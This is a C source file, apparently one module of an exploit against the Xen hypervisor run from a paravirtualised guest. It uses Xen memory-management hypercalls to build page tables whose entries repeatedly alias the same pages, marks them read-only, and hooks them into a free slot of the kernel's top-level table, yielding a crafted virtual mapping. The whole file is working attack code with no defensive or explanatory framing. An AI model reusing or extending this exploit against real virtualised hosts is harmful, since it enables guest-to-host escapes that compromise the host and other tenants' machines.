#include "attack.h"

u8 pool[64][PAGE] __attribute__((aligned(4096), section(".bss.page")));
u64 repeated[REPEATED] __attribute__((aligned(4096), section(".bss.page")));
/* One table for each of the three pages that its first entry may show. */
static u64 l1[3][512] __attribute__((aligned(4096), section(".bss.page")));
static u64 l2[512] __attribute__((aligned(4096), section(".bss.page")));

s64 set_entry(volatile void *page, u64 entry, u64 flags) {
    return hypercall(HYPERVISOR_update_va_mapping, (u64)page, entry, flags, 0);
}
s64 set_table(u64 table_mfn, u32 index, u64 entry) {
    struct update u = {table_mfn << 12 | 8 * index, entry};
    u32 done;
    return hypercall(HYPERVISOR_mmu_update, (u64)&u, 1, (u64)&done, DOMID_SELF);
}
s64 mmuext(u32 cmd, u64 arg1) {
    struct mmuext op = {cmd, 0, arg1, 0};
    return hypercall(HYPERVISOR_mmuext_op, (u64)&op, 1, 0, DOMID_SELF);
}
s64 reservation(u32 operation, u64 *list, u64 count, u32 order) {
    struct memory_reservation r = {list, count, order, 0, DOMID_SELF};
    return hypercall(HYPERVISOR_memory_op, operation, (u64)&r, 0, 0);
}
u64 *address_of(u64 mfn) { return (u64 *)(VIRT_BASE + pfn_of(mfn) * PAGE); }

u64 kernel_l3(void) { return FRAME(((u64 *)start_info->pt_base)[511]); }
s32 free_slot(u64 *table, u32 from, u32 below) {
    for (u32 i = from; i < below; i++) if (!(table[i] & PRESENT)) return i;
    return -1;
}

u64 endless(void) {
    s32 slot = free_slot(address_of(kernel_l3()), 0, 510);
    if (slot < 0) return 0;
    for (u64 t = 0; t < 3; t++) {
        for (u64 i = 0; i < 512; i++) l1[t][i] = mfn_of(repeated + (512 * t + i) % 3 * 512) << 12 | PTE_WR;
        if (set_entry(l1[t], mfn_of(l1[t]) << 12 | PTE_RO, UVMF_INVLPG)) return 0;
    }
    for (u64 i = 0; i < 512; i++) l2[i] = mfn_of(l1[i % 3]) << 12 | PTE_WR;
    if (set_entry(l2, mfn_of(l2) << 12 | PTE_RO, UVMF_INVLPG)) return 0;
    if (set_table(kernel_l3(), slot, mfn_of(l2) << 12 | PTE_WR)) return 0;
    return 0xffffff8000000000ul + ((u64)slot << 30);
}
